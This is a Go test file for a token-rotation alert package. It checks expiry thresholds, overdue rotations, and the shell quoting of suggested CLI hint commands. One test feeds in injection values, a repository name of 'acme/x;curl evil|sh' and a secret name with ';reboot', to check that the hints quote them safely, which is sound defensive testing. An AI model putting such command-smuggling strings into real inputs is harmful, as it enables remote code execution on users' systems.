package rotation_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"github.com/goldfish-inc/fluxkeeper/internal/finding"
	"github.com/goldfish-inc/fluxkeeper/internal/token/rotation"
)

// TestRotationExamples runs what docs/rules.md shows of the family rotation.
func TestRotationExamples(t *testing.T) {
	ran := 0
	for _, rule := range finding.Catalogue() {
		if rule.Family() != "rotation" {
			continue
		}
		ran++
		refused, allowed := alerts(t, rule.Refused), alerts(t, rule.Allowed)
		if len(refused) != 1 || refused[0].Rule != rule.Name || refused[0].Severity != rule.Severity || refused[0].Hint == "" {
			t.Errorf("%s, refused: %+v", rule.Name, refused)
		}
		if len(allowed) > 0 {
			t.Errorf("%s, allowed: %+v", rule.Name, allowed)
		}
	}
	if ran != 3 {
		t.Errorf("%d rules", ran)
	}
}

func alerts(t *testing.T, archive *txtar.Archive) []rotation.Alert {
	t.Helper()
	var texts []json.RawMessage
	var records []rotation.Record
	var now time.Time
	for _, file := range archive.Files {
		var err error
		switch file.Name {
		case "records.json":
			err = json.Unmarshal(file.Data, &texts)
		case "now.txt":
			now, err = time.Parse(time.RFC3339, strings.TrimSpace(string(file.Data)))
		default:
			t.Fatalf("%s is no part of an example", file.Name)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, text := range texts {
		r, err := rotation.ParseRecord(text)
		if err != nil {
			t.Fatal(err)
		}
		records = append(records, r)
	}
	return rotation.Alerts(rotation.Join(records), now, "")
}

// TestAlertsOfAnEnd goes through the last days of a token: each threshold is crossed
// once, and they get graver.
func TestAlertsOfAnEnd(t *testing.T) {
	end := time.Date(2026, 12, 31, 9, 0, 0, 0, time.UTC)
	rotations := rotation.Join([]rotation.Record{
		{Step: rotation.Started, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end},
		{Step: rotation.Stored, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end,
			Places: []rotation.Place{escP, secretP}},
	})
	type seen struct {
		Rule     string
		Severity finding.Severity
		Reminder int
	}
	const command = "`fluxkeeper-receiver rotate start --repo acme/fleet --esc acme/flux/prod --cluster-secret flux-system/github-token`"
	var got []seen
	days := map[seen]string{}
	for at := end.AddDate(0, 0, -40); at.Before(end.AddDate(0, 0, 3)); at = at.Add(time.Hour) {
		for _, a := range rotation.Alerts(rotations, at, "") {
			s := seen{a.Rule, a.Severity, a.Reminder}
			if !slices.Contains(got, s) {
				got = append(got, s)
				days[s] = a.Message
			}
			if !strings.Contains(a.Hint, command) {
				t.Fatalf("%s: no %s in %q", at, command, a.Hint)
			}
		}
	}
	want := []seen{
		{"token/expires", finding.Warning, 30}, {"token/expires", finding.Warning, 14},
		{"token/expires-soon", finding.Error, 7}, {"token/expires-soon", finding.Error, 1}, {"token/expired", finding.Error, 0},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if text := days[want[0]]; text != "the token for acme/fleet expires in 30 days, on 2026-12-31 09:00 UTC" {
		t.Error(text)
	}
	if text := days[want[4]]; text != "the token for acme/fleet expired on 2026-12-31 09:00 UTC" {
		t.Error(text)
	}
}

func step(s rotation.Step, hours int, repo, old, fresh string) rotation.Record {
	return rotation.Record{Step: s, Time: began.Add(time.Duration(hours) * time.Hour), Repositories: strings.Fields(repo), Old: old,
		New: fresh, Expires: began.AddDate(0, 0, 90)}
}

// TestCommandsOfHints: a hint's command can be typed, wherever the token is, and
// whatever somebody put on record.
func TestCommandsOfHints(t *testing.T) {
	r := step(rotation.Stored, 0, "acme/fleet", "A", "B")
	r.Places = []rotation.Place{{Where: `esc acme/flux/prod git["hub.token"]`}, {Where: "secret flux-system/tok;reboot password"}}
	r.Repositories = []string{"acme/x;curl evil|sh", "--help", "it's"}
	found := rotation.Alerts(rotation.Join([]rotation.Record{r}), began.AddDate(0, 0, 80), "")
	for _, want := range []string{
		"`fluxkeeper-receiver rotate finish --repo 'acme/x;curl evil|sh' --esc acme/flux/prod --esc-path 'git[\"hub.token\"]' " +
			"--cluster-secret 'flux-system/tok;reboot'`",
		`rotate start --repo 'acme/x;curl evil|sh' --repo '--help' --repo 'it'\''s' --esc`,
	} {
		if !slices.ContainsFunc(found, func(a rotation.Alert) bool { return strings.Contains(a.Hint, want) }) {
			t.Errorf("no %s in %+v", want, found)
		}
	}
}

func TestAlerts(t *testing.T) {
	short := func(r rotation.Record) rotation.Record {
		r.Expires = began.Add(30 * time.Hour)
		return r
	}
	for name, c := range map[string]struct {
		records []rotation.Record
		hours   int
		dead    string
		want    []string // rule and new token
	}{
		"none":   {},
		"stored": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 23, "", nil},
		"overdue": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 24, "",
			[]string{"rotation/overdue B"}},
		"seen dead": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 24, "A", nil},
		"another is dead": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 24, "X",
			[]string{"rotation/overdue B"}},
		"no old one is known": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B")}, 24, "", nil},
		"finished": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"),
			step(rotation.Finished, 3, "acme/fleet", "A", "B")}, 24, "", nil},
		"the old one's own end came": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")),
			step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 40, "", nil},
		"it has none since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A"))}, 31 + 30*24, "", nil},
		"it had one lately": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A"))}, 29 + 30*24, "",
			[]string{"token/expired A"}},
		"before that": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")),
			step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 29, "",
			[]string{"rotation/overdue B"}},
		"an earlier one was never finished": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"),
			step(rotation.Stored, 30, "acme/fleet", "B", "C"), step(rotation.Finished, 40, "acme/fleet", "B", "C")}, 60, "",
			[]string{"rotation/overdue B"}},
		"begun and given up for another": {[]rotation.Record{step(rotation.Started, 0, "acme/fleet", "A", "B"),
			step(rotation.Started, 1, "Acme/Fleet", "A", "C"), step(rotation.Stored, 1, "Acme/Fleet", "A", "C"),
			step(rotation.Finished, 2, "Acme/Fleet", "A", "C")}, 60, "", nil},
		"begun after the last": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B"),
			step(rotation.Started, 1, "acme/fleet", "B", "C")}, 2, "",
			[]string{"rotation/unstored C"}},
		"begun, and over": {[]rotation.Record{short(step(rotation.Started, 0, "acme/fleet", "", "B"))}, 31, "", nil},
		"one of two repositories has another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")),
			step(rotation.Stored, 1, "acme/a", "", "C")}, 31, "",
			[]string{"token/expired B"}},
		"both have another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")),
			step(rotation.Stored, 1, "acme/a", "", "C"), step(rotation.Stored, 1, "acme/b", "", "D")}, 31, "", nil},
		"stored last counts": {[]rotation.Record{step(rotation.Started, 0, "acme/a", "", "B"),
			short(step(rotation.Stored, 1, "acme/a", "", "C")), step(rotation.Stored, 2, "acme/a", "", "B")}, 31, "", nil},
	} {
		var got []string
		for _, a := range rotation.Alerts(rotation.Join(c.records), began.Add(time.Duration(c.hours)*time.Hour), c.dead) {
			got = append(got, a.Rule+" "+a.New)
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s:\n%s", name, diff)
		}
	}
	live := rotation.Live(rotation.Join([]rotation.Record{step(rotation.Stored, 0, "acme/a acme/b", "", "B"),
		step(rotation.Stored, 1, "acme/a", "", "C")}))
	if len(live) != 2 || live[0].New != "C" || strings.Join(live[1].Repositories, " ") != "acme/b" {
		t.Errorf("%+v", live)
	}
}
